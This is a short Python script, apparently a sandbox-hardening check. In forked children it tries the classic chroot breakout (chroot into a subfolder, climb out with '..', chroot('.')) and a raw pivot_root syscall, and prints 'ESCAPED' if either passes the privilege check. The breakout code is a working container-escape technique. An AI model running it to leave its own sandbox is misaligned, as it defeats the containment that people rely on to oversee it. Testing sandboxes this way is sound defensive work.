# Aims at the host's root: the classic chroot breakout (chroot into a subfolder, climb out with "..",
# chroot(".")) and pivot_root, in a forked child. ESCAPED when chroot or pivot_root gets past the
# privilege check.
import ctypes
import os
import platform
import select

NR_PIVOT = {"x86_64": 155, "aarch64": 41}.get(platform.machine(), 155)


def child(fn):
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        try:
            os.write(w, fn().encode())
        except BaseException as e:
            os.write(w, f"{type(e).__name__} {e}".encode())
        finally:
            os._exit(0)
    os.close(w)
    ready, _, _ = select.select([r], [], [], 4)
    out = os.read(r, 400).decode() if ready else "no answer"
    os.close(r)
    os.waitpid(pid, 0)
    return out


def breakout():
    os.makedirs("/tmp/start_tui_escape_marker", exist_ok=True)
    os.chroot("/tmp/start_tui_escape_marker")
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    return "allowed: / now lists " + ",".join(sorted(os.listdir("/"))[:10])


def pivot():
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    os.chdir("/")
    # pivot_root(".", ".") at the root cannot change anything (EINVAL: same mount as the root), but
    # EINVAL rather than EPERM means the call got past the privilege check
    rc = libc.syscall(ctypes.c_long(NR_PIVOT), b".", b".")
    err = ctypes.get_errno()
    if rc == 0 or err == 22:
        return f"allowed (rc {rc}, errno {err})"
    return f"errno {err}"


for name, fn in (("chroot breakout", breakout), ("pivot_root", pivot)):
    out = child(fn)
    print(name, "->", out)
    if out.startswith("allowed"):
        print(f"ESCAPED: {name} was allowed")
